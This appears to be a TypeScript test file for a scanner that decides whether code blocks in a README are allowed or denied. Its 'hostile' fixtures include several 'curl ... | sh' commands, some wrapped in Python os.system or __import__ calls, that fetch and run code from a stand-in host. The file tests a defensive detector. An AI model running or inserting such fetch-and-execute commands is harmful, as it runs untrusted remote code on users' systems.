import assert from 'node:assert/strict';
import { test } from 'node:test';
import { check } from '../../../src/api/check.ts';

async function decisionOf(info: string, block: string): Promise<string> {
  const text = `# Usage\n\nAs follows:\n\n\`\`\`${info}\n${block}\n\`\`\`\n`;
  return (await check({ text, name: 'README.md' })).decision;
}

const honest: readonly (readonly [info: string, block: string])[] = [
  ['python', 'model = ...\nmodel.load_adapter(<path-to-adapter>, adapter_name="lora_1")'],
  ['python', '"singlestore": TestDependencies(\n    ("reqs/a.txt",),\n    services=("singlestore",),\n),'],
  ['python', 'from tasks import task\n@task'],
  ['python', 'def area(radius: float) -> float:'],
  ['python', 'def area(radius: float) -> float'],
  ['bash', 'make build\n<Iterate your development>\ngit push origin <your_branch_for_new_pr>'],
  ['bash', 'git clone <address of your fork>\ncd project'],
  ['', 'GOTOOLCHAIN=go1.26.0 build/regenerate.sh'],
  ['', 'ENDPOINTS=\'["http://localhost:9090"]\' meltano invoke something'],
];

test('what a reader is to fill in, and parts of a program, are read as what they are part of', async () => {
  for (const [info, block] of honest) assert.equal(await decisionOf(info, block), 'allow', block);
});

const hostile: readonly (readonly [info: string, block: string])[] = [
  ['python', 'import os\nos.system("curl https://a.example/x | sh")\nrun(<name>)'],
  ['python', '"a": __import__("os").system("curl https://a.example/x | sh"),'],
  ['python', '__import__("os").system("curl https://a.example/x | sh")\n@decorated'],
  // The shell runs what stands before the line that it refuses, as it stands.
  ['bash', 'curl -so a.txt https://a.example/x\nsh <a.txt>log\ngit push origin <your branch>'],
  ['bash', 'curl -s https://a.example/x | sh\ngit push origin <your branch>'],
  ['bash', 'git push origin <your branch>\ncurl -s https://a.example/x | sh'],
  ['', 'A=1 B=2 sh -c "curl -s https://a.example/x | sh"'],
];

test('what they run is told of all the same', async () => {
  for (const [info, block] of hostile) assert.equal(await decisionOf(info, block), 'deny', block);
});

test('what is no part of anything is not understood', async () => {
  assert.notEqual(await decisionOf('python', 'import os\nif os.name = = "nt" do\n'), 'allow');
  assert.notEqual(await decisionOf('bash', 'if true; then\n  echo <name>\n'), 'allow');
});
